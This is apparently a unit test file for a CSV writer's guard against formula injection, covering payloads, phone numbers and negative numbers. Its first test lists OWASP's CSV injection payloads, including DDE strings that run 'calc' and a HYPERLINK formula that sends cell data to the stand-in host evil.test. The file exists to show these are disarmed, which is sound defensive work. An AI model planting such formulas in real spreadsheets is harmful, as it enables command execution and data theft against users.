// The CSV writer's formula guard: OWASP's CSV injection payloads are disarmed with a leading ', a
// phone number keeps it (Excel would show an error for +1 555 123 4567), and a negative number
// given as text reaches the spreadsheet as the number it is.

import { describe, expect, it } from 'vitest';
import { csvField, csvLine } from '../../../renderer/src/export/csv-format.ts';

describe('csvField formula guard', () => {
  it("disarms OWASP's CSV injection payloads with a leading '", () => {
    // The payloads of OWASP's "CSV Injection" page, and its advice: prefix with a single quote,
    // and quote the field (here when it holds a quote or a comma).
    expect(csvField('=1+2')).toBe("'=1+2");
    expect(csvField("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
    expect(csvField("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(csvField("@SUM(1+9)*cmd|' /C calc'!A0")).toBe("'@SUM(1+9)*cmd|' /C calc'!A0");
    expect(csvField('=HYPERLINK("http://evil.test?x="&A1,"Click")')).toBe(
      '"\'=HYPERLINK(""http://evil.test?x=""&A1,""Click"")"',
    );
    expect(csvField('\t=1+2')).toBe("'\t=1+2");
    expect(csvField('\r=1+2')).toBe('"\'\r=1+2"');
  });

  it('keeps the guard on number-like text that a spreadsheet would compute into something else', () => {
    // Arithmetic: -2+3 would show 1, +1-555-0100 would show -654, -1*5 would show -5.
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('+1-555-0100')).toBe("'+1-555-0100");
    expect(csvField('-1*5')).toBe("'-1*5");
    // +15550100 would show 15550100: the calling code's + is lost; -(1) would show -1.
    expect(csvField('+15550100')).toBe("'+15550100");
    expect(csvField('-(1)')).toBe("'-(1)");
    // A cell reference or a name after the digits.
    expect(csvField('+1 A1')).toBe("'+1 A1");
    expect(csvField('+1 555 SUM(1)')).toBe("'+1 555 SUM(1)");
    expect(csvField('-1 2,3')).toBe('"\'-1 2,3"');
  });

  it('keeps the guard on a phone number, which Excel would otherwise read as a formula and show as an error', () => {
    expect(csvField('+1 555 123 4567')).toBe("'+1 555 123 4567");
    expect(csvField('+44 20 7946 0958')).toBe("'+44 20 7946 0958");
    expect(csvField('+1 (555) 123-4567')).toBe("'+1 (555) 123-4567");
  });

  it('writes a negative number given as text as the number it is', () => {
    expect(csvField('-200000')).toBe('-200000');
    expect(csvField('-12.5')).toBe('-12.5');
  });

  it('leaves other text, numbers and empty values alone', () => {
    expect(csvField('Ann')).toBe('Ann');
    expect(csvField('(555) 123-4567')).toBe('(555) 123-4567');
    expect(csvField(-12.5)).toBe('-12.5');
    expect(csvField(null)).toBe('');
    expect(csvLine(['-3.5', '=1+2', -3])).toBe("-3.5,'=1+2,-3\r\n");
  });
});
